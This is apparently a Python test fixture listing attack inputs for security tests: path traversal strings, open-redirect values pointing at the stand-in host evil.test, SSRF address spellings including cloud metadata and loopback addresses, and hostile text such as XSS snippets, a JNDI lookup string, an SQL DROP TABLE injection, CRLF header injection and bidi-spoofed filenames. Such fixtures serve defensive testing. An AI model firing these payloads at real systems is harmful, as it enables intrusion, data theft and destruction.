"""Our own few payloads of each kind: paths, redirects, schemes, spellings of addresses, names and odd texts."""

from __future__ import annotations

OWN_TRAVERSALS = (
    *(
        "../{FILE}",
        "/../../{FILE}",
        "..%2f..%2f{FILE}",
        "%2e%2e/{FILE}",
        "..\\..\\{FILE}",
        "....//....//{FILE}",
        "/./../{FILE}",
    ),
    *(
        "..%c0%af{FILE}",
        "．．/{FILE}",
        "..;/{FILE}",
        "%252e%252e%252f{FILE}",
        "//{FILE}",
        "/%5C../%5C../{FILE}",
        "..\x00/{FILE}",
    ),
    *("linked/{FILE}", "sub/../../{FILE}", "file://{FILE}", "~/../{FILE}", "\\\\?\\{FILE}", "..\u2215{FILE}", "..\u2044{FILE}"),
)

TAKEN = (
    *(("new.txt", "new.txt"), ("NEW.txt", "new.txt"), ("New.TXT", "new.txt"), ("re\u0301sume\u0301.txt", "r\xe9sum\xe9.txt")),
    *(
        ("r\xe9sum\xe9.txt", "re\u0301sume\u0301.txt"),
        ("STRASSE.txt", "stra\xdfe.txt"),
        ("\u212bngstrom.txt", "\xe5ngstrom.txt"),
    ),
    *(("\u1e9e.txt", "ss.txt"), ("scan.txt", "SCAN.txt"), ("\ufb01le.txt", "FILE.txt"), ("\u03c3.txt", "\u03c2.txt")),
)

RESERVED = (
    *("CON", "con.txt", "PRN.txt", "aux.x.txt", "nul.txt", "COM1.txt", "com¹.txt", "LPT9.txt", "CONIN$.txt", "conout$.txt"),
    *("a:b.txt", "a.txt:stream", "a*.txt", "a?.txt", 'a".txt', "a<.txt", "a|.txt", "a\\b.txt", ".a.txt", "a.txt.", "a.txt "),
    *(" a.txt", "..", ".", "", "a\x00.txt", "a\n.txt", "a\u202etxt.txt", "a\u2044b.exe", "x" * 252 + ".txt", "é" * 80 + ".txt"),
)

OWN_REDIRECTS = (
    *(
        "//evil.test",
        "///evil.test",
        "/\\evil.test",
        "\\\\evil.test",
        "https:evil.test",
        "https:///evil.test",
        "//evil%E3%80%82test",
    ),
    *(
        "https://search.example@evil.test",
        "https://search.example:80#@evil.test/",
        "/%09/evil.test",
        "//evil.test/%2e%2e",
        "?q=a",
    ),
    *(
        "&q=evil#",
        "https://evil.test?search.example",
        "javascript:alert(1)",
        "%0d%0aLocation: //evil.test",
        "../../evil",
        "〱evil.test",
    ),
)

OWN_TEXTS = (
    *(
        "",
        "a\x00b",
        "   \t  ",
        "تقرير المبيعات 2025.xlsx",
        "👩\u200d👩\u200d👧\u200d👦 family",
        "Cafe\u0301 vs Café",
        "line\u2028sep\u2029para",
    ),
    *(
        "invoice\u202excod.exe",
        "\u2066left\u2069 \u202bright\u202c",
        "\u200fmark\u200e \u061c",
        "\U000e0053\U000e0048\U000e0059 tag",
        "\ufeffbom",
    ),
    *(
        "<b>bold</b><a href='https://evil.test'>x</a>",
        "<img src=x onerror=alert(1)>",
        "&lt;b&gt; &amp;amp; &#x202e;",
        "]]><!--",
    ),
    *(
        "\x1b[2J\x1b]0;title\x07 red",
        "\x9b31m",
        "a\rb\nc",
        "x" * 5000,
        "z\u0351\u0325" * 60,
        "\u115f\u3164\u2800 blank",
        "zero\u200bwidth\u2060",
    ),
    *(
        "${jndi:ldap://evil.test}",
        "%s%n{0}",
        "'; DROP TABLE offers;--",
        "[x](javascript:alert(1))",
        "ﷺ" * 90,
        "\U0010ffff\ue000\ufdd0",
    ),
    *(
        'Search the web for "cats"',
        "Accept\n\n\n\n\nReject",
        "<span foreground='white'>hidden</span>",
        "soft\xadhyphen",
        "\ufe0f\U000e0100 select",
    ),
)


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


SCHEMES = _words("""
http ftp ftps file sftp gopher ldap ldaps dict telnet tftp smb afp nfs ws wss data javascript vbscript jar mailto tel sms ssh
git svn magnet steam ms-settings ms-msdt search-ms shell about blob view-source chrome intent zoommtg vscode itms facetime
x-apple.systempreferences
""")
SPELLINGS = _words("""
127.0.0.1 127.1 127.0.1 2130706433 0x7f000001 0x7f.0.0.1 0x7f.1 0177.0.0.1 017700000001 0177.1 127.0.0.1. 0 0.0.0.0 00.0.0.0
10.0.0.1 10.1 0xa000001 012.0.0.1 167772161 172.16.0.1 192.168.1 192.168.0.1 0xc0a80001 3232235521 0300.0250.0.1
169.254.169.254 169.254.43518 2852039166 0xa9fea9fe 0251.0376.0251.0376 100.64.0.1 198.18.0.1 224.0.0.1 240.0.0.1
255.255.255.255 192.0.2.1 localhost LOCALHOST localhost. foo.localhost [::1] [::] [0:0:0:0:0:0:0:1] [::ffff:127.0.0.1]
[::ffff:7f00:1] [::ffff:10.0.0.1] [::ffff:a9fe:a9fe] [fe80::1] [fd00::1] [fec0::1] [::127.0.0.1] [::7f00:1] [64:ff9b::7f00:1]
[64:ff9b::10.0.0.1] [64:ff9b:1::1] [2002:7f00:1::] [2002:c0a8:101::] [2001:0:7f00:1::] [ff02::1] [100::1]
""")
"""Of addresses that are not on the open internet: 60 of them."""
